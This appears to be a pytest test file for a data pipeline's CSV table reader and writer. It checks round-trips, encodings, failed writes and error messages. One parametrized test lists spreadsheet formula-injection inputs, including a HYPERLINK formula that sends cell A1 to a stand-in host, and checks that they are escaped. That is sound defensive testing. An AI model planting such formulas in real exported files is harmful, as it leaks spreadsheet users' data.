from __future__ import annotations

import dataclasses
from dataclasses import asdict, dataclass
from pathlib import Path

import pytest

from pipeline.errors import ColorpipeError
from pipeline.files.csv_tables import cell, read_table, require_table, write_table


@dataclass(frozen=True)
class Row:
    text: str
    count: int
    share: float
    kept: bool


ROWS = [
    Row("plain", 1, 0.1, True),
    Row('a "quoted", comma\nand a second line', -2, 1e-12, False),
    Row("Gebäude 城市 🏔", 0, 3.0, True),
    Row("", 0, 0.0, False),
]


def test_rows_are_read_as_they_were_written(tmp_path: Path) -> None:
    path = tmp_path / "new" / "table.csv"
    write_table(path, ROWS, Row)
    assert read_table(path, Row) == ROWS


def test_a_table_that_a_spreadsheet_saved_is_read(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    write_table(path, ROWS, Row)
    path.write_text(path.read_text("utf-8"), "utf-8-sig", newline="\r\n")
    saved = [dataclasses.replace(row, text=row.text.replace("\n", "\r\n")) for row in ROWS]
    assert read_table(path, Row) == saved


def test_the_same_rows_give_the_same_bytes(tmp_path: Path) -> None:
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    write_table(first, ROWS, Row)
    write_table(second, iter(ROWS), Row)
    assert first.read_bytes() == second.read_bytes()
    assert first.read_bytes().startswith(b"text,count,share,kept\nplain,1,0.1,True\n")
    assert b"\r" not in first.read_bytes()


def test_a_table_without_rows_still_has_its_columns(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    write_table(path, [], Row)
    assert path.read_text() == "text,count,share,kept\n"
    assert read_table(path, Row) == []


def test_a_write_that_fails_leaves_the_old_table_and_no_litter(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    write_table(path, ROWS[:1], Row)
    before = path.read_bytes()

    def rows() -> object:
        yield ROWS[1]
        raise RuntimeError("the source of the rows broke")

    with pytest.raises(RuntimeError):
        write_table(path, rows(), Row)  # type: ignore[arg-type]
    assert path.read_bytes() == before
    assert list(tmp_path.iterdir()) == [path]


def test_a_missing_table_and_other_columns_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    with pytest.raises(ColorpipeError, match=r"table\.csv is missing; run the stage"):
        read_table(path, Row)
    path.write_text("text,count\na,1\n")
    with pytest.raises(ColorpipeError, match="does not have the columns text, count, share, kept"):
        read_table(path, Row)


def test_a_row_that_cannot_be_read_is_a_sentence(tmp_path: Path) -> None:
    write_table(tmp_path / "table.csv", [Row("x" * 140_000, 1, 0.0, False)], Row)
    with pytest.raises(ColorpipeError, match=r"table\.csv has a row that cannot be read"):
        read_table(tmp_path / "table.csv", Row)


def test_a_row_that_is_too_short_is_a_sentence(tmp_path: Path) -> None:
    (tmp_path / "table.csv").write_text("text,count,share,kept\na,1,0.5,True\nb,1\n")
    with pytest.raises(ColorpipeError, match=r"has a row that cannot be read \(it is too short\)"):
        read_table(tmp_path / "table.csv", Row)


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("http://a/1.jpg?x=-1", "http://a/1.jpg?x=-1"),
        ('=HYPERLINK("http://a/?"&A1)', '\'=HYPERLINK("http://a/?"&A1)'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "' =1"),
        ("\r=1", "' =1"),
        ("＝1", "'＝1"),
        ("'=1", "'=1"),
        ("x" * 8192, "x" * 8192),
        ("x" * 8193, "x" * 8191 + "…"),
        ("", ""),
    ],
)
def test_untrusted_text_is_not_a_formula_and_not_long(text: str, kept: str) -> None:
    assert cell(text) == kept


def test_columns_with_a_default_may_be_missing(tmp_path: Path) -> None:
    @dataclass(frozen=True)
    class Newer(Row):
        note: str = "none"

    write_table(tmp_path / "table.csv", ROWS, Row)
    assert read_table(tmp_path / "table.csv", Newer) == [Newer(**asdict(row)) for row in ROWS]
    (tmp_path / "table.csv").write_text("text,count,share,kept,other\n")
    with pytest.raises(ColorpipeError, match="does not have the columns"):
        read_table(tmp_path / "table.csv", Newer)


def test_what_is_not_text_becomes_a_question_mark(tmp_path: Path) -> None:
    write_table(tmp_path / "table.csv", [Row("caf\udce9", 1, 0.0, False)], Row)
    assert read_table(tmp_path / "table.csv", Row) == [Row("caf?", 1, 0.0, False)]


def test_a_table_that_cannot_be_read_is_a_sentence(tmp_path: Path) -> None:
    with pytest.raises(ColorpipeError, match=r"could not be read \(Is a directory\); name a CSV"):
        read_table(tmp_path, Row)


def test_a_table_takes_the_place_of_a_table_alone(tmp_path: Path) -> None:
    write_table(tmp_path / "table.csv", ROWS, Row)
    (tmp_path / "empty.csv").touch()
    for name in ("table.csv", "empty.csv", "new.csv"):
        require_table(tmp_path / name, Row)
    with pytest.raises(ColorpipeError, match=r"is a folder, but a table is to be written there"):
        require_table(tmp_path, Row)
    (tmp_path / "photo.jpg").write_bytes(b"\xff\xd8\xff")
    with pytest.raises(ColorpipeError, match=r"photo\.jpg would take the place of a file"):
        require_table(tmp_path / "photo.jpg", Row)
